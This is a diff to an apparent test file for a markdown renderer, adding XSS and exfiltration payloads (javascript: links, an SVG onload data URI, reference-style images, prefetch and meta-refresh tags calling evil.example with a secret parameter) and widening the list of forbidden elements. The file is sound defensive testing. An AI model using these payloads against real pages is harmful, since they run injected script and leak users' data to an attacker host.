@@ -25,6 +25,10 @@ const ATTACKS = [
   "<form action=https://evil.example><input name=key></form>",
   "<style>body { background: url(https://evil.example/?leak) }</style>",
   "![tracker](https://evil.example/?secret=1)",
+  "![x][y]\n\n[y]: https://evil.example/?secret=1",
+  "[click][z]\n\n[z]: javascript:alert(1)",
+  "<javascript:alert(1)> ![x](data:image/svg+xml,<svg onload=alert(1)>)",
+  "<link rel=prefetch href=https://evil.example> <meta http-equiv=refresh content=0;url=https://evil.example>",
   "[a](&#106;avascript:alert(1)) <a href=\"java\tscript:alert(1)\">b</a>",
 ];
 
@@ -32,7 +36,7 @@ describe("nothing of the text becomes markup", () => {
   it.each(ATTACKS)("%s", (attack) => {
     const opened: string[] = [];
     const box = shown(`before ${attack} after\n\n${attack}`, opened);
-    expect(box.querySelectorAll("img, script, iframe, style, form, input, math, object, a[href], [src], [onerror], [onload]")).toHaveLength(0);
+    expect(box.querySelectorAll("img, script, iframe, link, meta, video, audio, style, form, input, math, object, a[href], [src], [onerror], [onload]")).toHaveLength(0);
     for (const element of box.querySelectorAll("svg")) expect(element.getAttribute("class")).toContain("lucide");
     box.querySelectorAll<HTMLElement>("[role='link']").forEach((link) => link.click());
     expect(opened.filter((url) => !/^(https?|mailto):/.test(url))).toEqual([]);
